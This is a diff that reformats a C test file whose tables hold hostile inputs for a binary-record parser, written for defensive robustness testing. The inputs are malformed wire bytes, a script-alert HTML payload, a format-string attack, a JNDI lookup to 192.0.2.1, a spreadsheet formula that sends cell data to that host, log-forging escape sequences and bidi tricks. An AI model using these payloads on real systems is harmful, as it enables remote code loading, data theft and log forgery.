@@ -1,11 +1,11 @@
 // SPDX-License-Identifier: Apache-2.0
-// The tables of hostile values, one after the other. Most are good items with one thing spoilt; some are nothing but bytes,
-// and some are items that are as they should be, with texts that are meant for somebody else's parser.
+// The tables of hostile values, one after the other. Most are good items with one thing spoilt; some are nothing but
+// bytes, and some are items that are as they should be, with texts that are meant for somebody else's parser.
 #include "tests/kit/hostile_maker.h"
 #include <stdlib.h>
 
 #define COUNT(list) (sizeof(list) / sizeof *(list))
-#define MIB (1u << 20)
+#define MIB         (1u << 20)
 #define VALUE_BYTES 262144u
 
 // Bytes that come once, or again and again up to a size.
@@ -29,9 +29,15 @@ static const struct {
     {"the highest field number", "\xf8\xff\xff\xff\x0f\x01", 6, 0, OUTCOME_UNKNOWN_FIELD, "536870911"},
     {"a field number beyond the highest", "\x88\x80\x80\x80\x10\x01", 6, 0, OUTCOME_WIRE_BROKEN, ""},
     {"a length of 2^64 - 1", "\x0a\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01", 11, 0, OUTCOME_WIRE_BROKEN, "header"},
-    {"a length one too long", "\x0a\x04" "abc", 5, 0, OUTCOME_WIRE_BROKEN, "header"},
+    {"a length one too long",
+        "\x0a\x04"
+        "abc",
+        5, 0, OUTCOME_WIRE_BROKEN, "header"},
     {"a length in more bytes than it needs", "\x0a\x81\x00x", 4, 0, OUTCOME_WIRE_VARINT, "header"},
-    {"the header as a fixed number", "\x09" "12345678", 9, 0, OUTCOME_WIRE_BROKEN, "header"},
+    {"the header as a fixed number",
+        "\x09"
+        "12345678",
+        9, 0, OUTCOME_WIRE_BROKEN, "header"},
     {"JSON", "{\"header\":{\"agency\":\"kent\"}}", 29, 0, OUTCOME_WIRE_BROKEN, "15"},
     {"HTML", "<!DOCTYPE html><script>alert(1)</script>", 40, 0, OUTCOME_WIRE_BROKEN, "7"},
     {"a schema registry's magic byte", "\x00\x00\x00\x00\x01\x0a\x01h", 8, 0, OUTCOME_WIRE_BROKEN, ""},
@@ -48,9 +54,11 @@ static const struct {
     {"a format in a text", "%s%s%s%n%n%1000000d"},
     {"a look-up in a text", "${jndi:ldap://192.0.2.1/a}"},
     {"a spreadsheet's formula in a text", "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"see\")"},
-    {"text that runs backwards", "seen in \xe2\x80\xae" "tnek\xe2\x80\xac and \xe2\x81\xa6Margate\xe2\x81\xa9"},
+    {"text that runs backwards", "seen in \xe2\x80\xae"
+                                 "tnek\xe2\x80\xac and \xe2\x81\xa6Margate\xe2\x81\xa9"},
     {"a forged line of a log", "seen\r\nlevel=error event=SPILL agency=nca\x1b[2J\x1b]0;title\x07"},
-    {"invisible characters", "\xef\xbb\xbfk\xe2\x80\x8b" "ent\xc2\xad\xf3\xa0\x81\xa5\xef\xbf\xbf"},
+    {"invisible characters", "\xef\xbb\xbfk\xe2\x80\x8b"
+                             "ent\xc2\xad\xf3\xa0\x81\xa5\xef\xbf\xbf"},
 };
 
 static const struct {
@@ -107,7 +115,8 @@ static void make_raw(struct hostile_maker *maker, size_t i)
     for (size_t at = 0; at + len <= size && len; at += len)
         memcpy(bytes + at, raws[i].bytes, len);
     hostile_send(maker, slice_of(bytes, size));
-    *maker->made = (struct hostile){.name = raws[i].name, .record = maker->made->record, .outcome = raws[i].outcome, .path = raws[i].path};
+    *maker->made = (struct hostile){
+        .name = raws[i].name, .record = maker->made->record, .outcome = raws[i].outcome, .path = raws[i].path};
 }
 
 static void make_text(struct hostile_maker *maker, size_t i)
@@ -117,7 +126,8 @@ static void make_text(struct hostile_maker *maker, size_t i)
     kit_set_text(maker->arena, &body->statements[0]->text, texts[i].text);
     kit_set_text(maker->arena, &maker->item->header->place, texts[i].text);
     hostile_send_item(maker);
-    *maker->made = (struct hostile){.name = texts[i].name, .record = maker->made->record, .outcome = OUTCOME_ACCEPTED, .path = ""};
+    *maker->made =
+        (struct hostile){.name = texts[i].name, .record = maker->made->record, .outcome = OUTCOME_ACCEPTED, .path = ""};
 }
 
 static void make_row(struct hostile_maker *maker, const struct hostile_row *row)
